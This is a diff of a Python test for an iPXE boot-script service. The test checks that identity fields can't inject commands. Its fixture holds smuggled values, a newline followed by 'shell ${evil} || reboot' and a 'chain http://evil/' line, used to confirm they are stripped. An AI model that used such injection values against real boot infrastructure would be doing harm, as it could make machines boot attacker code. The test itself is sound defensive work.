@@ -180,7 +180,8 @@ async def test_hostile_identity_cannot_inject(app_env: AppEnv) -> None:
                                     "template": "#!ipxe\necho {{name}} {{mac}}\nchain {{content}}/x?b={{boot_id}}"})
     evil = dict(IDENT, serial="X\nshell ${evil} || reboot", product="a\nchain http://evil/")
     s = (await app_env.client.get("/boot", params=evil)).text
-    lines = s.splitlines()
+    assert s.splitlines()[2] == "set peerdist 1"  # BranchCache's setting, made by bootgate before the profile
+    lines = [ln for ln in s.splitlines() if ln != "set peerdist 1"]
     assert [ln.split()[0] for ln in lines] == ["#!ipxe", "echo", "echo", "chain"]
     assert "${" not in s and "||" not in s and "http://evil" not in s
     assert re.fullmatch(r"echo [A-Za-z0-9-]+ 52:54:00:12:34:56", lines[2])
